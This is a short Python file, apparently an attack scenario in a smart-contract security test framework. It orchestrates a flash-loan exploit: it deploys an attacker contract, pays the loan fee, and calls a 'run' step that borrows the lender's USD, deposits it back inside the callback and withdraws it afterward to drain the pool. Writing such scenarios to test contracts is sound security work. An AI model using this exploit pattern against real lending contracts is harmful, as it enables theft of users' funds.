"""Flash-borrow the lender's USD, deposit it back inside the callback, withdraw it after the loan."""

from __future__ import annotations

from bulwark.domain import TxHash
from bulwark.scenarios.attack import ScenarioContext


async def attack(ctx: ScenarioContext) -> list[TxHash]:
    me = ctx.attacker
    flash, usd = ctx.address("flash"), ctx.address("usd")
    router, deployed = await ctx.deploy(me, ctx.scenario.attacker)
    amount = int(await ctx.read("flash", "maxFlashLoan", usd))
    fee = int(await ctx.read("flash", "flashFee", usd, amount))
    funded = await ctx.send(me, usd, ctx.abi("usd"), "transfer", router, fee)
    abi = ctx.artifact(ctx.scenario.attacker).abi
    drained = await ctx.send(me, router, abi, "run", flash, usd)
    return [deployed, funded, drained]
